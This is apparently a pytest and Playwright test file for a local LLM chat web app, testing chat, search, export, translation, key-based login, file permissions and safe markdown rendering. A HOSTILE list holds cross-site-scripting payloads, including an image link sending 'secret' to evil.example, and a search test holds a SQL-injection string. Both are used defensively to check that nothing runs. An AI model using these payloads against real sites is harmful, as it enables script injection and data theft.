"""The page in a real browser, and what it is made of."""

from __future__ import annotations

import asyncio
import html
import os
import re
import sqlite3
import sys
import time
from collections.abc import Callable, Iterator
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Browser, Page, expect
from serving import Running, run_galop, serving
from waiting import wait_for

from galop.chat.translate import Segment, segments
from galop.web.conversations import Conversations, StoredMessage, path
from galop.web.markdown import LONGEST, LONGEST_CODE, blocks, brackets_to_dollars, to_html, whole
from galop.web.markdown_child import MarkdownRenderer
from galop.web.texts import LANGUAGES, TEXTS

SHOTS = os.environ.get("GALOP_SCREENSHOTS")  # a folder that gets the pictures of the README
DESKTOP, PHONE = {"width": 1200, "height": 780}, {"width": 390, "height": 780}


@pytest.fixture(scope="module")
def home(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return tmp_path_factory.mktemp("page")


@pytest.fixture(scope="module")
def server(home: Path, smollm_path: Path, coder_path: Path) -> Iterator[Running]:
    with serving("qwen2.5-coder:0.5b", "smollm2:135m", "--context", "2048", home=home) as running:
        yield running


@pytest.fixture
def visit(browser: Browser, server: Running) -> Iterator[Callable[..., Page]]:
    """Opens the page; whatever the browser complains of, or asks from elsewhere, fails the test."""
    wrong: list[str] = []
    contexts = []

    def open_(size: Any = DESKTOP, url: str = "", **options: Any) -> Page:
        context = browser.new_context(viewport=size, permissions=["clipboard-read", "clipboard-write"], **options)
        contexts.append(context)
        page = context.new_page()
        page.set_default_timeout(60_000)
        page.on("pageerror", lambda error: wrong.append(str(error)))
        page.on("console", lambda m: wrong.append(m.text) if m.type == "error" else None)
        page.on("request", lambda r: wrong.append(r.url) if server_host(r.url) else None)
        page.goto(url or server.url)
        page.wait_for_selector("textarea, input[type=password]")
        page.wait_for_function("!document.querySelector('textarea') || window.socket?.connected")
        return page

    def server_host(url: str) -> bool:
        return "://127.0.0.1:" not in url and not url.startswith(("data:", "blob:"))

    yield open_
    for context in contexts:
        context.close()
    assert not wrong


def ask(page: Page, question: str) -> None:
    page.fill("footer textarea", question)
    page.locator("footer textarea").press("Enter")


def answered(page: Page, count: int = 1) -> None:
    """Waits until so many answers have their line of figures."""
    page.wait_for_function(
        "n => [...document.querySelectorAll('.status')].filter(e => /tok.s|jetons/.test(e.innerText)).length >= n",
        arg=count,
    )


def shot(page: Page, name: str) -> None:
    if SHOTS:
        page.mouse.move(0, 0)
        time.sleep(0.6)
        page.screenshot(path=Path(SHOTS) / name)


def test_ask_watch_copy_edit_and_branch(visit: Callable[..., Page]) -> None:
    page = visit()
    ask(page, "Write a Python function that adds two numbers. Only the code.")
    answered(page)
    expect(page.get_by_role("button", name="Send")).to_be_visible()
    assert "first token" in page.inner_text(".status")
    page.click(".code .copy")
    assert "def " in page.evaluate("navigator.clipboard.readText()")
    shot(page, "page.png")

    page.get_by_role("button", name="Edit").click()
    page.locator(".editing textarea").fill("Write a Python function that multiplies two numbers. Only the code.")
    page.locator("article").get_by_role("button", name="Send").click()
    expect(page.get_by_text("2/2")).to_be_visible()
    answered(page)
    assert "multiplies" in page.inner_text("article.user")
    page.get_by_role("button", name="Previous branch").first.click()
    expect(page.locator("article.user")).to_contain_text("adds")
    page.get_by_role("button", name="Next branch").first.click()
    expect(page.locator("article.user")).to_contain_text("multiplies")

    page.get_by_role("button", name="Answer again").click()
    expect(page.get_by_text("2/2")).to_have_count(2)
    answered(page)

    # All of it is there after the page is loaded anew.
    page.reload()
    page.locator(".item .name").first.click()
    expect(page.locator("article.user")).to_contain_text("multiplies")
    answered(page)


def test_stop_keeps_what_was_said(visit: Callable[..., Page], server: Running) -> None:
    page = visit()
    ask(page, "Write the numbers from 1 to 500, one on each line.")
    # It streams: there is text, and a way to stop it, long before the answer is whole.
    page.wait_for_function("document.querySelector('.body')?.innerText.length > 40")
    expect(page.get_by_role("button", name="Stop")).to_be_visible()
    page.keyboard.press("Escape")
    expect(page.locator(".status")).to_contain_text("stopped")
    text = page.inner_text(".body")
    assert len(text) > 20
    time.sleep(0.5)
    assert server.metric("num_requests_running") == 0
    assert page.inner_text(".body") == text


def test_technical_answers_and_what_they_rest_on(visit: Callable[..., Page]) -> None:
    page = visit()
    computes = page.get_by_role("button", name="Technical answers")
    expect(computes).to_have_attribute("aria-pressed", "false")
    computes.click()
    expect(computes).to_have_attribute("aria-pressed", "true")
    ask(page, "Quelle masse de cuivre, en g, un courant de 2,5 A dépose-t-il en 2 h ?")
    expect(page.locator("article.assistant .body")).to_have_text("5.92747 g")
    expect(page.locator(".status")).to_have_text("computed")
    page.get_by_text("What this rests on").click()
    fold = page.locator(".grounds")
    for told in ("current = 2.5 A", "time = 7200 s", "source", "Faraday", "assumed", "molar mass"):
        expect(fold).to_contain_text(told)
    shot(page, "computed.png")
    ask(page, "A chamber at 48 bar feeds a throat; c* is 1690 m/s. What mass flow in kg/s?")
    expect(page.locator("article.assistant .body").last).to_contain_text("throat area (m^2) is missing")
    expect(page.locator(".status").last).to_have_text("nothing was computed")
    expect(fold).to_have_count(1)

    # The switch and the folds are there after the page is loaded anew, in the other language too.
    page.get_by_label("Language").click()
    page.get_by_role("option", name="Français").click()
    expect(page.get_by_role("button", name="Réponses techniques")).to_have_attribute("aria-pressed", "true")
    page.locator(".item .name").first.click()
    expect(page.get_by_text("Sur quoi cela repose")).to_be_visible()
    expect(page.locator(".status").first).to_have_text("calculé")
    page.get_by_role("button", name="Réponses techniques").click()
    page.get_by_label("Langue").click()
    page.get_by_role("option", name="English").click()
    expect(page.get_by_role("button", name="Technical answers")).to_have_attribute("aria-pressed", "false")


def test_search_export_and_delete(visit: Callable[..., Page]) -> None:
    page = visit()
    ask(page, "Say the word xylophone and nothing else.")
    answered(page)
    page.get_by_role("button", name="New conversation").click()
    expect(page.locator("article")).to_have_count(0)
    page.get_by_placeholder("Search conversations").fill("xylopho")
    expect(page.locator(".item")).to_have_count(1)
    expect(page.locator(".item .quiet")).to_contain_text(re.compile("xylophone", re.IGNORECASE))  # where it was said
    page.locator(".item .name").click()
    expect(page.locator("article.user")).to_contain_text("xylophone")
    page.locator(".item.here .more").click()
    with page.expect_download() as download:
        page.get_by_text("Export as Markdown").click()
    content = Path(download.value.path()).read_text()
    assert content.startswith("# Say the word xylophone") and "## qwen2.5-coder:0.5b" in content
    page.locator(".item.here .more").click()
    page.locator(".q-menu").get_by_text("Delete").click()
    page.locator(".q-dialog").get_by_role("button", name="Delete").click()
    expect(page.locator("article")).to_have_count(0)
    page.get_by_placeholder("Search conversations").fill("xylophone")
    expect(page.get_by_text("Nothing found.")).to_be_visible()


def test_two_lanes_answer_the_same_question(visit: Callable[..., Page]) -> None:
    page = visit()
    page.get_by_role("button", name="Two lanes side by side").click()
    expect(page.locator(".lane")).to_have_count(2)
    ask(page, "Name three colours.")
    answered(page, 2)
    lanes = page.locator(".lane")
    models = [lanes.nth(i).locator(".model input, .model").first.inner_text() for i in (0, 1)]
    assert models[0] != models[1]
    assert [lanes.nth(i).locator("article.user").inner_text() for i in (0, 1)] == ["Name three colours."] * 2
    boxes = [lanes.nth(i).bounding_box() for i in (0, 1)]
    assert boxes[0] and boxes[1] and boxes[0]["x"] + boxes[0]["width"] <= boxes[1]["x"] + 1
    shot(page, "page-lanes.png")


def test_a_phone(visit: Callable[..., Page]) -> None:
    page = visit(PHONE, color_scheme="dark")
    ask(page, "What is a mole in chemistry? One sentence.")
    answered(page)
    assert page.evaluate("document.documentElement.scrollWidth") <= PHONE["width"]
    assert (
        page.evaluate("getComputedStyle(document.body).backgroundColor") == "rgb(22, 24, 27)"
    )  # dark, as the system is
    shot(page, "page-phone.png")
    page.get_by_role("button", name="Two lanes side by side").click()
    expect(page.locator(".lane")).to_have_count(2)
    assert page.evaluate("document.documentElement.scrollWidth") <= PHONE["width"]
    page.get_by_role("button", name="Conversations").click()
    expect(page.get_by_placeholder("Search conversations")).to_be_visible()


def test_files_and_french_and_translation(visit: Callable[..., Page], tmp_path: Path) -> None:
    (tmp_path / "notes.txt").write_text("The password of the day is marmalade.")
    (tmp_path / "photo.bin").write_bytes(b"\xff\x00\x01")
    (tmp_path / "big.txt").write_text("x" * (1 << 21))
    page = visit()
    for name in ("big.txt", "photo.bin", "notes.txt"):
        page.set_input_files(".galop-upload input[type=file]", tmp_path / name)
    expect(page.get_by_text("photo.bin is no picture, PDF or UTF-8 text")).to_be_visible()
    expect(page.locator(".q-chip")).to_have_count(1)
    ask(page, "What is the password of the day?")
    expect(page.locator("article.user")).to_contain_text("marmalade")
    expect(page.locator(".q-chip")).to_have_count(0)
    answered(page)
    assert "marmalade" in page.locator("article.assistant .body").inner_text().lower()
    page.locator(".language").click()
    page.locator(".q-menu").get_by_text("Français").click()
    expect(page.locator(".q-menu")).to_have_count(0)
    expect(page.get_by_placeholder("Posez une question")).to_be_visible()
    page.fill("footer textarea", "Good morning. How are you?")
    page.get_by_role("button", name="Traduire le texte").click()
    page.get_by_text("en Français").click()
    answered(page)
    said = page.locator("article.assistant .body").last.inner_text()
    assert "bonjour" in said.lower() or "comment" in said.lower()
    page.locator(".language").click()
    page.locator(".q-menu").get_by_text("English").click()
    expect(page.locator(".q-menu")).to_have_count(0)
    expect(page.get_by_placeholder("Ask something")).to_be_visible()


def test_killed_in_mid_answer_nothing_stored_is_lost(browser: Browser, tmp_path: Path, smollm_path: Path) -> None:
    unfinished = "SELECT 1 FROM message WHERE role = 'assistant' AND NOT finished AND length(content) > 100"
    for attempt in range(2):
        with serving("smollm2:135m", "--context", "2048", home=tmp_path) as running:
            page = browser.new_page()
            page.goto(running.url)
            page.wait_for_function("window.socket?.connected")
            if attempt == 0:
                ask(page, "Write the numbers from 1 to 500, one on each line.")
                stored = tmp_path / "data" / "galop" / "conversations.db"
                with sqlite3.connect(stored) as db:
                    wait_for(lambda: db.execute(unfinished).fetchone() is not None, "a part of the answer to be stored")
                running.process.kill()
            else:
                page.locator(".item .name").first.click()
                expect(page.locator("article.user")).to_contain_text("from 1 to 500")
                expect(page.locator(".status")).to_contain_text("interrupted")
                assert len(page.inner_text("article.assistant .body")) > 100
            page.close()
    with sqlite3.connect(tmp_path / "data" / "galop" / "conversations.db") as db:
        assert db.execute("PRAGMA integrity_check").fetchone() == ("ok",)


def test_off_loopback_the_page_asks_for_a_key(browser: Browser, tmp_path: Path, smollm_path: Path) -> None:
    key = run_galop(tmp_path, "keys", "add", "ann").stdout.strip()
    with serving("smollm2:135m", "--host", "0.0.0.0", home=tmp_path) as running:
        page = browser.new_page()
        page.goto(running.url)
        page.fill("input[name=key]", "wrong")
        page.click("button")
        expect(page.get_by_role("alert")).to_contain_text("not a key")
        page.fill("input[name=key]", key)
        page.click("button")
        page.wait_for_function("window.socket?.connected")
        ask(page, "Hi")
        answered(page)
        cookie = next(c for c in page.context.cookies() if c["name"] == "galop_session")
        assert cookie["httpOnly"] and cookie["sameSite"] == "Strict" and key not in cookie["value"]
        with running.client() as client:
            for part in ("/_nicegui_ws/socket.io/?EIO=4&transport=polling", "/_nicegui/x/static/nicegui.js"):
                assert client.get(part).status_code == 401
            # The cookie opens the page alone, not the interfaces.
            assert client.get("/v1/models", headers={"cookie": f"galop_session={cookie['value']}"}).status_code == 401
        page.close()


HOSTILE = [
    "<script>window.hit=1</script>", "<img src=x onerror='window.hit=1'>", "[a](javascript:window.hit=1)",
    "[a](JaVaScRiPt:window.hit=1)", "[a](feed:javascript:window.hit=1)", "[a](ms-msdt:/x)", "[a](data:text/html;base64,PHNjcmlwdD4=)", "![x](https://evil.example/?q=secret)",
    "<iframe src='https://evil.example'></iframe>", "<svg onload='window.hit=1'>", "<style>*{background:url(//evil.example)}</style>",
    "```\"><img src=x onerror=window.hit=1>\ncode\n```", "$\\text{<img src=x onerror=window.hit=1>}$",
    "$\\href{javascript:window.hit=1}{x}$", "$$\\def\\a{\\a\\a}\\a$$", "[x]: javascript:window.hit=1\n\n[x]", "<a href='javascript:1'>x</a>",
    "`</code><script>window.hit=1</script>`", "| <b onclick=window.hit=1>a</b> |\n|---|\n| <script>window.hit=1</script> |",
    "<https://evil.example/\"onmouseover=window.hit=1>", "&lt;script&gt;window.hit=1&lt;/script&gt;", "<details open ontoggle=window.hit=1>",
]  # fmt: skip


def test_nothing_a_model_or_a_user_writes_runs(visit: Callable[..., Page], server: Running, home: Path) -> None:
    store = Conversations(home / "data" / "galop" / "conversations.db")
    for thing in [*HOSTILE, "\n\n".join(HOSTILE)]:
        assert "<script" not in to_html(thing) and "<img" not in to_html(thing) and "<iframe" not in to_html(thing)
        assert "javascript:" not in "".join(p.split('"')[0].lower() for p in to_html(thing).split('href="')[1:])
        assert "ms-msdt:" not in "".join(p.split('"')[0] for p in to_html(thing).split('href="')[1:])
    conversation = store.begin("", HOSTILE[1])
    parent = None
    for i, thing in enumerate([*HOSTILE, "\n\n".join(HOSTILE)]):
        role = "assistant" if i % 2 else "user"
        said = StoredMessage(0, parent, 0, role, thing, thinking=thing, model="" if role == "user" else HOSTILE[1])
        parent = store.add("", conversation, said).id
    store.close()
    page = visit()
    page.locator(".item .name").first.click()
    expect(page.locator("article")).to_have_count(len(HOSTILE) + 1)
    page.get_by_placeholder("Search conversations").fill("window.hit")
    page.wait_for_timeout(800)
    assert page.evaluate("window.hit") is None
    assert page.locator("main img, main iframe, main script, main svg").count() == 0


def test_formulas_tables_and_code_are_shown(visit: Callable[..., Page], home: Path) -> None:
    store = Conversations(home / "data" / "galop" / "conversations.db")
    conversation = store.begin("", "formulas")
    text = "Euler: $e^{i\\pi} = -1$, or\n\n\\[ \\frac{a}{b} \\]\n\n| a | b |\n|---|---|\n| 1 | $x^2$ |\n\n```python\nx = 1\n```\n"
    asked = store.add("", conversation, StoredMessage(0, None, 0, "user", "?"))
    store.add("", conversation, StoredMessage(0, asked.id, 0, "assistant", text, model="m"))
    store.close()
    page = visit()
    page.locator(".item .name").first.click()
    expect(page.locator("article math")).to_have_count(3)
    expect(page.locator("article table td")).to_have_count(2)
    expect(page.locator("article pre .n")).to_have_text("x")


def test_blocks_of_a_growing_text_never_change_but_the_last() -> None:
    text = "# A\n\nb\nc\n\n```python\nx\n\ny\n```\n\n- d\n\n~~~\n```\n\nstill\n~~~\nend"
    final = blocks(text)
    assert final == ["# A", "b\nc", "```python\nx\n\ny\n```", "- d", "~~~\n```\n\nstill\n~~~\nend"]
    for n in range(len(text)):
        assert blocks(text[:n])[:-1] == final[: max(len(blocks(text[:n])) - 1, 0)]


def test_lists_and_fences_stay_whole_as_they_grow() -> None:
    text = "1. a\n\n   b\n\n   ```\n   x\n\n   y\n   ```\n\n2. c\n\n- d\n\ne\n\n```a`b```\n\n    f\n\n---\n\n````py\n```\n\n````\n"
    final = blocks(text)
    assert [b.split("\n")[0] for b in final] == ["1. a", "e", "```a`b```", "    f", "---", "````py"]
    assert final[0].endswith("2. c\n\n- d") and "<ol>" in to_html(final[0]) and to_html(final[0]).count("<li>") == 3
    for n in range(len(text)):
        assert blocks(text[:n])[:-1] == final[: max(len(blocks(text[:n])) - 1, 0)]
    assert whole("[x] and\n\n`y`\n\n[x]: https://a.example")[0].endswith("\n\n[x]: https://a.example")


@pytest.mark.parametrize(
    "piece",
    [r"\[", r"\( x", "$$a", "[", "[a](", "![", "**a *b ", "_a", "~~a ", "`", "``a` ", "<a ", "&#", "> ", "- a\n", "1. ", "|a",
     "a|b\n-|-\n", "```\n", "~~~a\n\n", "[a]: b\n\n[a]", "<http://a.b>", "\\", "$\\frac{", "x\\[2pt] "],
)  # fmt: skip
def test_twice_the_text_is_twice_the_work(piece: str) -> None:
    def work(length: int) -> int:
        calls = 0

        def count(*_: object) -> None:
            nonlocal calls
            calls += 1

        text = piece * (length // len(piece))
        sys.setprofile(count)
        try:
            to_html(text)
        finally:
            sys.setprofile(None)
        return calls

    work(100)
    assert work(6000) < 2.4 * work(3000) + 1000


def test_marks_of_formulas_are_looked_at_once() -> None:
    for piece in (r"\[", r"\(", r"\[ x", r"\( \[", r"\\[", "`a", "```"):
        assert (
            brackets_to_dollars(piece * 200_000) == piece * 200_000
        )  # for minutes, where each is looked for to the end
    assert (
        brackets_to_dollars(r"\(a \[b\) \[ c \\[2pt] d \] `\(e\)` \\(f\\)")
        == r"$a \[b$ $$ c \\[2pt] d $$ `\(e\)` \\(f\\)"
    )


def test_code_is_coloured_when_it_is_whole_and_as_far_as_is_cheap() -> None:
    def text_of(made: str) -> str:
        return html.unescape(re.sub(r"<[^>]+>", "", made.split("<pre>")[1].split("</pre>")[0]))

    assert "<span" not in to_html("```python\nx = 1").split("<pre>")[1]
    assert '<span class="n">x' in to_html("```python\nx = 1\n```") and '<span class="n">x' in to_html(
        "- a\n  ~~~python\n  x\n  ~~~"
    )
    costly = "a\n" * (LONGEST_CODE // 2 - 10)
    made = to_html(f"```csharp\n{costly}```")  # whose lexer reads to the end for every line
    assert text_of(made) == costly and 0 < made.count("<span") < 2000
    long = "x = 1\n" * (LONGEST_CODE // 6 + 10)
    assert text_of(to_html(f"```python\n{long}```")) == long and to_html(f"```python\n{long}```").count("<span") == 1
    assert to_html("*a* " * LONGEST) == f'<div class="plain">{"*a* " * LONGEST}</div>'
    for language, endless in (("go", '"\\' * 900), ("aspectj", "a " * 900), ("autohotkey", "\n" * 900 + "a")):
        assert text_of(to_html(f"```{language}\n{endless}\n```")) == endless + "\n"  # in one match of one pattern


def test_blocks_are_rendered_once_and_never_where_others_wait() -> None:
    answer = "# Title\n\n" + "".join(f"Paragraph {i} with *words*.\n\n" for i in range(20)) + "```python\nx = 1\n```"

    async def grown() -> None:
        renderer = MarkdownRenderer()
        pushes = range(1, len(answer) + 1, 7)
        for n in pushes:
            *finished, last = blocks(answer[:n])
            for block in finished:
                assert await renderer.html(block)
            await renderer.html(last, finished=False)
        assert renderer.rendered <= len(pushes) + len(blocks(answer))
        for block in blocks(answer):
            assert await renderer.html(block) == to_html(block) == renderer.lookup(block)
        renderer.close()

    async def hostile() -> None:
        renderer = MarkdownRenderer(seconds=0.02)
        assert await renderer.html("*fine*") == to_html("*fine*")
        waiting = asyncio.create_task(renderer.html("[" * LONGEST))
        turns = 0
        async with asyncio.timeout(60):
            while not waiting.done():
                await asyncio.sleep(0)
                turns += 1
        assert waiting.result() is None and turns > 100  # it was given up, and everybody else went on
        assert await renderer.html("*fine*") == to_html("*fine*")
        rendered = renderer.rendered
        assert await renderer.html("[" * LONGEST) is None and renderer.rendered == rendered  # it is not tried again
        left = asyncio.create_task(renderer.html("[" * 3000, finished=False))
        await asyncio.sleep(0.001)
        left.cancel()
        assert await renderer.html("**other**") == to_html("**other**")
        renderer.close()

    for part in (grown, hostile):
        with ThreadPoolExecutor() as pool:  # the browser's own loop runs in this thread
            pool.submit(asyncio.run, part()).result()


def test_conversations_are_their_owners(tmp_path: Path) -> None:
    store = Conversations(tmp_path / "c.db")
    mine = store.begin("ann", "the capital of  \n France " + "and more " * 20)
    first = store.add("ann", mine, StoredMessage(0, None, 0, "user", 'Where is "Paris"?'))
    a = store.add("ann", mine, StoredMessage(0, first.id, 0, "assistant", "In France", model="m"))
    b = store.add("ann", mine, StoredMessage(0, first.id, 0, "assistant", "On the Seine", model="m"))
    assert store.search("ann")[0].title.startswith("the capital of France") and len(store.search("ann")[0].title) <= 60
    assert path(store.messages("ann", mine), 0)[-1].id == b.id
    assert path(store.messages("ann", mine), 0, {first.id: a.id})[-1].id == a.id
    assert store.messages("bob", mine) == [] and store.search("bob") == [] and store.search("bob", "Seine") == []
    with pytest.raises(KeyError):
        store.add("bob", mine, StoredMessage(0, None, 0, "user", "x"))
    store.delete("bob", mine)
    for words, found in (
        ("sein", 1),
        ("Seine France", 0),
        ('"Paris', 1),
        ("' OR 1=1 --", 0),
        ("NEAR(", 0),
        ("*", 0),
        ("zebra", 0),
    ):
        assert len(store.search("ann", words)) == found, words
    b.content = "By the sea"
    store.update("bob", mine, b)
    assert store.search("ann", "Seine")
    store.update("ann", mine, b)
    assert not store.search("ann", "Seine") and store.search("ann", "sea")
    store.delete("ann", mine)
    assert not store.search("ann") and not store.search("ann", "sea")
    store.close()


def test_what_is_found_is_shown_where_it_is_said(tmp_path: Path) -> None:
    store = Conversations(tmp_path / "c.db")
    for text in (
        "a b " * 100 + "The Xylophone\n plays. " + "c d " * 100,
        "xylophone " * 50_000,
    ):  # for hours, were it squared
        store.add("", store.begin("", "t"), StoredMessage(0, None, 0, "user", text))
    found = store.search("", "xyloph")
    assert len(found) == 2 and all("xylophone" in f.excerpt.lower() and len(f.excerpt) < 90 for f in found)
    assert any(
        f.excerpt.startswith("…") and f.excerpt.endswith("…") and "The Xylophone plays." in f.excerpt for f in found
    )
    assert store.search("", "xylophone " * 5000) and not store.search("", "zebra")
    store.close()


def test_conversations_are_read_by_nobody_else(tmp_path: Path) -> None:
    folder = tmp_path / "data" / "galop"
    before = os.umask(0)
    try:
        for attempt in range(2):
            store = Conversations(folder / "c.db")
            store.begin("", "a secret")
            files = sorted(folder.iterdir())
            assert [f.name for f in files] == ["c.db", "c.db-shm", "c.db-wal"]
            assert {f.stat().st_mode & 0o777 for f in files} == {0o600}, attempt
            assert {f.stat().st_mode & 0o777 for f in (folder, folder.parent)} == {0o700}
            if attempt == 0:  # as earlier versions left them
                folder.chmod(0o755)
                for file in files:
                    file.chmod(0o644)
            else:
                store.close()
    finally:
        os.umask(before)


def test_every_text_is_in_every_language() -> None:
    for name, texts in TEXTS.items():
        assert texts.keys() == LANGUAGES.keys(), name
        assert all(sorted(set(t.split("{")[1:]) and [p.split("}")[0] for p in t.split("{")[1:]])
                   == sorted([p.split("}")[0] for p in texts["en"].split("{")[1:]]) for t in texts.values())  # fmt: skip


def test_what_is_translated_and_what_is_copied() -> None:
    text = [
        "# A title",
        "",
        "First one. Second",
        "goes on, e.g. here. Third!",
        "- an item",
        "```",
        "code. Here.",
        "```",
        "---",
        "| a b | 1 |",
    ]
    pieces = list(segments(text))
    assert [p.text for p in pieces if p.sentence] == [
        "A title", "First one.", "Second goes on, e.g. here.", "Third!", "an item", "a b",
    ]  # fmt: skip
    assert "".join(p.text for p in pieces) == (
        "# A title\n\nFirst one. Second goes on, e.g. here. Third!\n- an item\n```\ncode. Here.\n```\n---\n| a b | 1 |\n"
    )
    seen: list[Segment] = []

    def lines() -> Iterator[str]:
        yield "One is whole. Two is"
        assert [p.text for p in seen if p.sentence] == ["One is whole."]  # before the next line has come
        yield "not. Yet."

    for piece in segments(lines()):
        seen.append(piece)
